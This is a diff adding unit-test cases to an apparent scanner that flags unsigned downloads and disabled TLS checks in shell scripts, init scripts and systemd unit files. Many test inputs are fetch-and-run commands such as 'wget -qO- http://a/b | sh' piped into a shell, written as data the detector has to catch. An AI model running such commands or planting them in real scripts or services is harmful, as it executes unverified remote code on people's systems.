@@ -119,6 +119,13 @@ static void test_shell_network(void **state)
 		{ SH, "apt-get install --allow-unauthenticated x\n", "1 unsigned-download / installation / proven\n" },
 		{ "/etc/crontabs/root", "# all\nPATH=/bin\n0 3 * * * wget -qO- http://a/b | sh\n@daily\tcurl -sk https://a/b\n",
 		  "3 unsigned-download / shell / proven\n4 tls-verification-off / network / proven\n" },
+		/* systemd.service(5): no shell, no pipe */
+		{ "/etc/systemd/system/x.service",
+		  "[Unit]\nDescription=sh -c 'wget -qO- http://a/b | sh'\n[Service]\nExecStartPre=-/bin/sh -c 'wget -qO- http://a/b | sh'\n"
+		  "ExecStart=/usr/bin/wget -qO- http://a/b | sh\n# sh -c 'wget -qO- http://a/b | sh'\n"
+		  "ExecStartPost=/bin/sh -c \"curl -s http://a/c \\\n | sh\"\nEnvironment=X='sh -c reboot'\n",
+		  "4 unsigned-download / shell / proven\n8 unsigned-download / shell / proven\n" },
+		{ "/etc/systemd/system/x.service", "[Service]\nExecStart=/bin/sh -\n", "" },
 		/* a run of the script has to come to it: XCU 2.8, 2.9 */
 		{ SH, "#!/bin/sh\nif false; then\nwget -qO- http://a/b | sh\nfi\n", "3 unsigned-download / shell / possible\n" },
 		{ SH, "#!/bin/sh\nfalse && wget -qO- http://a/b | sh\ntrue || wget -qO- http://a/c | sh\n",
@@ -134,6 +141,17 @@ static void test_shell_network(void **state)
 		{ SH, "#!/bin/sh\ncurl -fso /tmp/x http://a/b && sh /tmp/x\n", "2 unsigned-download / program / proven\n" },
 		{ "/etc/init.d/up", "#!/bin/sh\ncase $1 in\nstart) wget -qO- http://a/b | sh ;;\nflash) wget -qO- http://a/c | sh ;;\nesac\n",
 		  "3 unsigned-download / shell / proven\n4 unsigned-download / shell / possible\n" },
+		{ SH, "#!/bin/sh\nup() {\nwget -qO- http://a/b | sh\n}\ntrap 'up; exit 1' INT EXIT\nexit 0\n",
+		  "3 unsigned-download / shell / proven\n" },
+		{ SH, "#!/bin/sh\nX=1\nup() {\nwget -qO- http://a/b | sh\n}\ndown() { :; }\n", "4 unsigned-download / shell / proven\n" },
+		{ SH, "#!/bin/sh\n. /etc/rc.subr\nstart_cmd=up\nup() {\nwget -qO- http://a/b | sh\n}\nrun_rc_command start\n",
+		  "5 unsigned-download / shell / likely\n" },
+		{ SH, "#!/bin/sh\n. /etc/x\nup() {\nwget -qO- http://a/b | sh\n}\nexit 0\nup\n", "4 unsigned-download / shell / likely\n" },
+		{ SH, "#!/bin/bash\nup() {\nwget -qO- http://a/b | sh\n}\nexport -f up\nxargs bash -c up\n",
+		  "3 unsigned-download / shell / likely\n" },
+		{ SH, "#!/bin/sh\n(test -f /x; exit $?) && exit 0\nwget -qO- http://a/b | sh\n", "3 unsigned-download / shell / likely\n" },
+		{ SH, "#!/bin/sh\nkill -0 $(cat /run/x) && exit 0\nwget -qO- http://a/b | sh\n", "3 unsigned-download / shell / proven\n" },
+		{ "/etc/init.d/up", "#!/sbin/openrc-run\nstart() {\nwget -qO- http://a/b | sh\n}\n", "3 unsigned-download / shell / proven\n" },
 		/* what is run is not what was fetched, or comes through what unpacks it */
 		{ SH, "wget -O /tmp/x http://a/b\ncp /etc/x /tmp/x\nsh /tmp/x\n", "" },
 		{ SH, "wget -O /tmp/x http://a/b\ncp /tmp/x /tmp/y\nsh /tmp/y\n", "3 unsigned-download / program / proven\n" },
